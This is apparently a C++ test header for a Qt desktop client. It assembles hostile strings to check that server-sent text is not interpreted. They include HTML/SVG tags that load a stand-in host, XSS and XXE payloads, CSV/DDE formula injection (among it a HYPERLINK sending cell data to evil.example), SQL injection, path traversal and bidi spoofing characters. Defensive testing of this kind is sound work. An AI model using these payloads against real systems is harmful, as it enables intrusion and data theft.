// SPDX-License-Identifier: GPL-3.0-or-later
// Texts that a server, or who speaks in its name, may send to break a window, a document or a spreadsheet.
#pragma once

#include <QString>
#include <QStringList>

namespace obdesk::test {

namespace detail {

/// Markup that rich text, HTML or SVG would act upon. %1: a file or address that must not be opened.
inline QStringList markup(const QString &target)
{
    using namespace Qt::StringLiterals;
    const QStringList forms {
        u"<img src=\"%1\">"_s, u"<img src='%1' width=64 height=64>"_s, u"<IMG SRC=%1>"_s, u"<img/src=\"%1\"/>"_s, u"a<br><img src=\"%1\"><br>b"_s,
        u"<qt><img src=\"%1\"></qt>"_s, u"<html><body background=\"%1\">x</body></html>"_s, u"<table background=\"%1\"><tr><td>x</td></tr></table>"_s,
        u"<p style=\"background-image:url(%1)\">x</p>"_s, u"<link rel=stylesheet href=\"%1\">"_s, u"<style>@import url(%1);</style>"_s,
        u"<a href=\"%1\">harmless</a>"_s, u"<object data=\"%1\"></object>"_s, u"<embed src=\"%1\">"_s, u"<iframe src=\"%1\"></iframe>"_s,
        u"<video poster=\"%1\"></video>"_s, u"<svg><image href=\"%1\"/></svg>"_s, u"<svg><use xlink:href=\"%1#a\"/></svg>"_s,
        u"</text></svg><svg onload=\"x\"><image xlink:href=\"%1\"/>"_s, u"</title></style></td></table><img src=\"%1\" onerror=alert(1)>"_s,
        u"\"><img src=\"%1\">"_s, u"'><img src='%1'>"_s, u"--><img src=\"%1\"><!--"_s, u"]]><img src=\"%1\"><![CDATA["_s,
        u"<!DOCTYPE x [<!ENTITY e SYSTEM \"%1\">]><x>&e;</x>"_s, u"<?xml-stylesheet href=\"%1\"?>"_s, u"<meta http-equiv=refresh content=\"0;url=%1\">"_s,
        u"<base href=\"%1\">"_s, u"<form action=\"%1\"><button>x</button></form>"_s, u"![x](%1)"_s, u"[x](%1)"_s, u"[x]: %1"_s, u"<%1>"_s,
    };
    QStringList texts;
    for (const QString &form : forms)
        texts.append(QString(form).replace(u"%1"_s, target));
    return texts;
}

inline QStringList scripts()
{
    using namespace Qt::StringLiterals;
    return {
        u"<script>alert(1)</script>"_s, u"</script><script>alert(1)</script>"_s, u"<a href=\"javascript:alert(1)\">x</a>"_s, u"<b onmouseover=alert(1)>x</b>"_s,
        u"&lt;script&gt;"_s, u"&#60;img src=x&#62;"_s, u"&amp;lt;"_s, u"&"_s, u"&amp"_s, u"&File &Edit"_s, u"a&&b"_s, u"<"_s, u">"_s, u"<b"_s, u"</b>"_s, u"<!--"_s,
        u"<b>bold</b>"_s, u"<font size=7>big</font>"_s, u"<h1>title</h1>"_s, u"<table><tr><td>1</table>"_s, u"<pre>x"_s, u"\"'`"_s, u"${x} $(x) `x` %x% {{x}} <%= x %>"_s,
        u"%1 %2 %n %L1 %%"_s, u"%s%s%s%n"_s, u"\\"_s, u"\\\\\" \\u0041 \\x41 \\n"_s, u"'; DROP TABLE journal; --"_s, u"\"];n1->n2;\\N\\\""_s, u"|a|`b`*c*_d_~e~|"_s,
        u"# heading"_s, u"```\nfence\n```"_s, u"| --- | --- |"_s, u"../../../../etc/passwd"_s, u"con"_s, u"a/b\\c:d*e?f\"g<h>i|j"_s, u" leading and trailing "_s,
        u"null"_s, u"true"_s, u"-0"_s, u"1e400"_s, u"{\"a\":1}"_s, u"[1,2]"_s,
    };
}

/// What spreadsheets take for formulas or for the end of a cell.
inline QStringList formulas()
{
    using namespace Qt::StringLiterals;
    QStringList texts;
    for (const QString &start : { u"="_s, u"+"_s, u"-"_s, u"@"_s, u"\t="_s, u"\r="_s, u"\n="_s, u"＝"_s, u"＋"_s, u"－"_s, u"＠"_s, u" ="_s, u"'="_s, u"\"="_s }) {
        texts.append(start + u"cmd|' /C calc'!A0"_s);
        texts.append(start + u"HYPERLINK(\"http://evil.example/\"&A1,\"x\")"_s);
        texts.append(start + u"1+1,=2+2;=3+3"_s);
    }
    texts += { u"a,b"_s, u"a\",=1+1,\"b"_s, u"a;=1+1"_s, u"a\"\"b"_s, u"\"a\"\n=1+1"_s, u"DDE(\"cmd\";\"/C calc\")"_s };
    return texts;
}

/// Every control character, and those that turn or hide the writing.
inline QStringList controls()
{
    QStringList texts;
    for (char16_t c = 0; c < 0x20; ++c)
        texts.append(QStringLiteral("a") + QChar(c) + QStringLiteral("b"));
    for (const char16_t c : { 0x7F, 0x80, 0x85, 0x9B, 0x9F, 0x061C, 0x200B, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066,
                              0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFFE, 0xFFFF, 0xD800, 0xDC00, 0xFDD0 })
        texts.append(QStringLiteral("left") + QChar(c) + QStringLiteral("right"));
    return texts;
}

inline QStringList odd()
{
    using namespace Qt::StringLiterals;
    QString stacked = u"Z"_s;
    for (int i = 0; i < 200; ++i)
        stacked += QChar(0x0300 + i % 0x70);
    return {
        u"host-01\u202Eexe.gpj"_s, u"\u05E9\u05DC\u05D5\u05DD"_s, u"\u0645\u0631\u062D\u0628\u0627 123"_s, u"添加 OBServer：等待“节点”就绪"_s, u"\U0001F4A5 "_s + QChar(0xD83D) + u" lone"_s,
        u"👩‍👩‍👧‍👦 🏴‍☠️"_s, u"ﷺ"_s, u"ı İ ß ŉ"_s, stacked, u"\u001B[31mred\u001B[0m \u001B]0;title\u0007"_s, u"bell\u0007 del\u007F c1\u0085"_s,
        u"line\r\nbreak\ttab"_s, u"\n\n\n"_s, u"a\n"_s.repeated(60), u"\t\t\t"_s, u" "_s, QString(4096, u'W'), QString(5000, QChar(0x4E2D)), u"<b>"_s.repeated(1000),
        QString(3000, QChar(0x202E)), u"a b "_s.repeated(1000), u"x"_s.repeated(300),
    };
}

} // namespace detail

/// Two hundred and more, each once. `target`: an address that whoever interprets a text would open; point it at a watched file.
inline QStringList hostileTexts(const QString &target = QStringLiteral("http://evil.example/x.png"))
{
    return detail::markup(target) + detail::scripts() + detail::formulas() + detail::controls() + detail::odd();
}

} // namespace obdesk::test
